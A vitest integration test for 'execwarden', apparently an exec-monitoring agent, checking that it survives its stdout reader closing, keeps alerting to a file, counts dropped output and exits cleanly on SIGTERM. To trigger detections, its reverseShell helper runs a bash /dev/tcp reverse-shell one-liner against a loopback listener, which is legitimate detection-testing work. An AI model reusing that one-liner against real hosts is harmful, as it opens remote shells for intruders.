/**
 * `execwarden run | head -1`: the built agent in its own process, alerting to stdout (a pipe this
 * test reads one line from, then closes) and to a file. Once the reader is gone the stdout output
 * fails and stops, with one warning; the agent must stay up, keep alerting into its file, count
 * what stdout dropped, and still drain and exit 0 on SIGTERM. Needs root and the built CLI
 * (`npm run build:ts`).
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { runShell } from '../capture/kernel-capture.js';
import { describeAsRoot } from '../support/require-root.js';
import { waitFor } from '../support/wait.js';
import { freePort } from '../support/helpers.js';

const ROOT = resolve(import.meta.dirname, '../..');
const SEED_RULE = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';

describeAsRoot('execwarden run when its stdout reader goes away', () => {
  const dir = mkdtempSync(join(tmpdir(), 'execwarden-stdout-closed-'));
  const alertsFile = join(dir, 'alerts.ndjson');
  let agent: ChildProcess;
  let log = '';
  let stdoutLine: string | undefined;
  let listener: Server;
  let listenerPort: number;
  let metricsPort: number;

  const fileHas = (marker: string) => (): boolean =>
    existsSync(alertsFile) &&
    readFileSync(alertsFile, 'utf8')
      .split('\n')
      .filter(Boolean)
      .some((line) => {
        const alert = JSON.parse(line) as { rule: { id: string }; process?: { command_line?: string } };
        return alert.rule.id === SEED_RULE && String(alert.process?.command_line).includes(marker);
      });

  /** A setsid reverse shell on loopback, from a shell that stays its parent (see run.kernel.test.ts). */
  function reverseShell(marker: string): Promise<void> {
    const inner = `bash -i >& /dev/tcp/127.0.0.1/${listenerPort} 0>&1 #${marker}`;
    return runShell(`setsid bash -c '${inner}'; true`, '/bin/bash').then(() => undefined);
  }

  const stdoutWarnings = (): string[] => log.split('\n').filter((line) => line.includes('"sink":"stdout"'));
  /** stderr holds the agent's JSON log and nothing else: a crash would print a bare stack trace. */
  const notJson = (): string[] =>
    log.split('\n').filter((line) => {
      if (line === '') return false;
      try {
        JSON.parse(line);
        return false;
      } catch {
        return true;
      }
    });

  beforeAll(async () => {
    if (!existsSync(join(ROOT, 'dist/src/cli/main.js'))) throw new Error('the CLI is not built: run `npm run build:ts` first');
    cpSync(join(ROOT, 'rules'), join(dir, 'rules'), { recursive: true });
    metricsPort = await freePort();
    writeFileSync(
      join(dir, 'config.toml'),
      `[rules]\npaths = ["${join(dir, 'rules')}"]\n[alerts]\ndedup_window_seconds = 1\n[metrics]\nlisten = "127.0.0.1:${metricsPort}"\n` +
        `[outputs.stdout]\nformat = "ndjson"\n[outputs.file]\npath = "${alertsFile}"\n`,
    );
    listener = createServer((socket) => socket.end('exit\n'));
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    listenerPort = (listener.address() as AddressInfo).port;
    agent = spawn(process.execPath, [join(ROOT, 'bin/execwarden.js'), 'run', '--config', join(dir, 'config.toml')], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    agent.stderr!.on('data', (chunk: Buffer) => (log += chunk.toString()));
    // `head -1`: read the first line, then close the pipe.
    let buffered = '';
    agent.stdout!.on('data', (chunk: Buffer) => {
      buffered += chunk.toString();
      const newline = buffered.indexOf('\n');
      if (newline === -1 || stdoutLine !== undefined) return;
      stdoutLine = buffered.slice(0, newline);
      agent.stdout!.destroy();
    });
    await waitFor('start-up', () => log.includes('execwarden started') || agent.exitCode !== null, 20_000);
    if (agent.exitCode !== null) throw new Error(`agent exited at start-up: ${log}`);
  }, 30_000);

  afterAll(() => {
    if (agent && agent.exitCode === null) agent.kill('SIGKILL');
    listener?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('writes its first alert to stdout, where the reader takes it and leaves', async () => {
    await reverseShell('stdout-closed-1');
    await waitFor('the first alert on stdout', () => stdoutLine, 10_000, () => log);
    expect((JSON.parse(stdoutLine!) as { event: { kind: string } }).event.kind).toBe('alert');
    expect(agent.stdout!.destroyed).toBe(true);
    await waitFor('the first alert in the file', fileHas('stdout-closed-1'));
  });

  it('stays up when stdout fails with EPIPE, warns once, and keeps alerting into its file', async () => {
    await reverseShell('stdout-closed-2');
    await waitFor('the second alert in the file', fileHas('stdout-closed-2'), 10_000, () => log);
    await waitFor('the stdout warning', () => stdoutWarnings().length > 0, 10_000, () => log);
    await reverseShell('stdout-closed-3');
    await waitFor('the third alert in the file', fileHas('stdout-closed-3'), 10_000, () => log);
    expect(agent.exitCode).toBeNull();
    expect(agent.signalCode).toBeNull();

    const warnings = stdoutWarnings();
    expect(warnings).toHaveLength(1);
    const warning = JSON.parse(warnings[0]!) as { level: number; msg: string; err: { message: string } };
    expect(warning.level).toBe(40);
    expect(warning.err.message).toMatch(/standard output's reader is gone \(.*EPIPE.*\)/);
    expect(notJson()).toEqual([]);
  });

  it('counts what stdout dropped, while the file output writes on', async () => {
    const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
    expect(Number(/execwarden_output_dropped_total\{output="stdout"\} (\d+)/.exec(text)?.[1])).toBeGreaterThanOrEqual(2);
    expect(Number(/execwarden_output_written_total\{output="stdout"\} (\d+)/.exec(text)?.[1])).toBeGreaterThanOrEqual(1);
    expect(Number(/execwarden_output_written_total\{output="file"\} (\d+)/.exec(text)?.[1])).toBeGreaterThanOrEqual(3);
  });

  it('drains and exits 0 on SIGTERM', async () => {
    const exited = new Promise<number | null>((r) => agent.once('exit', (code) => r(code)));
    agent.kill('SIGTERM');
    expect(await exited).toBe(0);
    expect(log).toContain('execwarden stopped');
    expect(notJson()).toEqual([]);
    expect(stdoutWarnings()).toHaveLength(1);
  });

  it('with stdout its only output, stops and exits 0 once that reader is gone, as `run | head -1` does', async () => {
    const onlyStdout = join(dir, 'only-stdout.toml');
    writeFileSync(onlyStdout, `[rules]\npaths = ["${join(dir, 'rules')}"]\n[alerts]\ndedup_window_seconds = 0\n`);
    const filter = spawn(process.execPath, [join(ROOT, 'bin/execwarden.js'), 'run', '--config', onlyStdout], { stdio: ['ignore', 'pipe', 'pipe'] });
    let filterLog = '';
    filter.stderr!.on('data', (chunk: Buffer) => (filterLog += chunk.toString()));
    const exited = new Promise<number | null>((done) => filter.once('exit', (code) => done(code)));
    try {
      await waitFor('start-up', () => filterLog.includes('execwarden started'), 20_000, () => filterLog);
      // Like head -1: take the first line, then go away.
      const firstLine = new Promise<void>((done) => {
        let text = '';
        filter.stdout!.on('data', (chunk: Buffer) => {
          text += chunk.toString();
          if (text.includes('\n')) {
            filter.stdout!.destroy();
            done();
          }
        });
      });
      await reverseShell('only-stdout-1');
      await firstLine;
      // A second alert meets the closed pipe: the only output is gone, so the agent stops.
      await reverseShell('only-stdout-2');
      await new Promise((r) => setTimeout(r, 200));
      await reverseShell('only-stdout-3');
      expect(await Promise.race([exited, new Promise((r) => setTimeout(() => r('still running'), 10_000))])).toBe(0);
      expect(filterLog).toContain('every output has stopped for good');
      expect(filterLog).not.toMatch(/^\s+at /m);
    } finally {
      if (filter.exitCode === null) filter.kill('SIGKILL');
    }
  });
});
